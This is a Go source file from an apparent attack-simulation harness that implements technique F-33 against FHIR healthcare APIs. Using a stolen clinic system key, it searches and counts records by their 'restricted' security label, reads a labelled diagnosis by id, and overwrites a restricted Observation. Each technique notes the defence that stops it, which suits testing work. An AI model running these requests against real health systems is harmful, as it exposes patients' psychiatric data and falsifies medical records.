package attacker

import (
	"context"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

const beyondLabels = "FAPI 2.0 knows of no labels on records: who holds the token is served whatever the API serves. An API that asks for a clearance, " +
	"which the system was never given, stops this."

// restrictedOnly is what a label is searched by.
const restrictedOnly = "http://terminology.hl7.org/CodeSystem/v3-Confidentiality|R"

var _ = register("F-33", Technique{
	Variant: "search",
	Title:   "The label that hides a record is what it is found by",
	Story: "The thief has the key of a clinic's system, which may read the clinic's charts in its own name, to send reminders. He asks for a " +
		"patient's diagnoses that are labelled as restricted, and gets what psychiatry wrote, and nothing that would bore him.",
	Reads: []string{"FHIR R4 security-labels", "FHIR R4 search, _security"},
	Has:   []event.Asset{event.ClientKey, event.DPoPKey}, Against: []Trait{KeyAuth},
	Beyond: beyondLabels,
	Run: asSystem(func(g Ground) string {
		return "/Condition?patient=" + patientIn(g.Target().Labelled) + "&_security=" + url.QueryEscape(restrictedOnly)
	}),
})

var _ = register("F-33/count", Technique{
	Variant: "count",
	Title:   "How many restricted records somebody has",
	Story: "The thief has the key of a clinic's system. He asks how many restricted records a patient has, and for none to be shown: asked of one " +
		"patient after the other, it tells whom psychiatry knows.",
	Reads: []string{"FHIR R4 security-labels", "FHIR R4 search, _summary=count"},
	Has:   []event.Asset{event.ClientKey, event.DPoPKey}, Against: []Trait{KeyAuth},
	Beyond: beyondLabels,
	Run: asSystem(func(g Ground) string {
		return "/Condition?_summary=count&patient=" + patientIn(g.Target().Labelled) + "&_security=" + url.QueryEscape(restrictedOnly)
	}),
})

var _ = register("F-33/read", Technique{
	Variant: "read",
	Title:   "A restricted record by its number",
	Story: "The thief has the key of a clinic's system, and the number of a diagnosis that stood in a referral. Searches leave such records out for a " +
		"system like this; he does not search.",
	Reads: []string{"FHIR R4 security-labels", "OWASP API3:2023"},
	Has:   []event.Asset{event.ClientKey, event.DPoPKey}, Against: []Trait{KeyAuth},
	Beyond: beyondLabels,
	Run:    asSystem(func(g Ground) string { return "/" + g.Target().Labelled }),
})

var _ = register("F-33/write", Technique{
	Variant: "write",
	Title:   "Another result over a restricted one",
	Story: "The thief is a doctor whose app may write observations. He writes one of his own over a result that he would not be shown: what was there is " +
		"history now, and what stands there is his.",
	Reads:  []string{"FHIR R4 security-labels", "OWASP API3:2023"},
	Has:    []event.Asset{event.OwnClient},
	Beyond: beyondWriting,
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := observersToken(ctx, g)
		if err != nil {
			return err
		}
		_, id, _ := strings.Cut(g.Target().Result, "/")
		_, err = a.write(ctx, http.MethodPut, g.Target().FHIRBase+"/"+g.Target().Result, result(g, id), t)
		return err
	},
})

// asSystem is a technique that has a token issued to the honest client in its own name, and asks one question.
func asSystem(question func(Ground) string) func(context.Context, Ground) error {
	return func(ctx context.Context, g Ground) error {
		a, t, err := systemToken(ctx, g)
		if err != nil {
			return err
		}
		_, err = a.read(ctx, g.Target().FHIRBase+question(g), t)
		return err
	}
}

// systemToken is one of the honest client's, for its own work, by way of its stolen key.
func systemToken(ctx context.Context, g Ground) (*app, fapi.TokenResponse, error) {
	c, err := victimsCredentials(g)
	if err != nil {
		return nil, fapi.TokenResponse{}, err
	}
	if err := addVictimsKey(g, &c); err != nil {
		return nil, fapi.TokenResponse{}, err
	}
	a, err := newApp(ctx, g, c)
	if err != nil {
		return nil, fapi.TokenResponse{}, err
	}
	form := url.Values{"grant_type": {"client_credentials"}, "scope": {"system/*.rs"}, "resource": {g.Target().FHIRBase}}
	t, err := a.token(ctx, form, nil)
	return a, t, err
}

// result is an observation about the patient of the labelled record, with the thief's mark in it and no label on it.
func result(g Ground, id string) []byte {
	b, err := json.Marshal(map[string]any{
		"resourceType": "Observation", "id": id, "status": "final", "code": map[string]string{"text": "Note (" + g.Target().Mark + ")"},
		"subject": map[string]string{"reference": "Patient/" + patientIn(id)},
	})
	if err != nil {
		panic("attacker: " + err.Error()) // strings always marshal
	}
	return b
}

// patientIn reads off the number of a record whose it is: obs-p04-5.
func patientIn(id string) string {
	parts := strings.Split(id, "-")
	return parts[len(parts)/2]
}
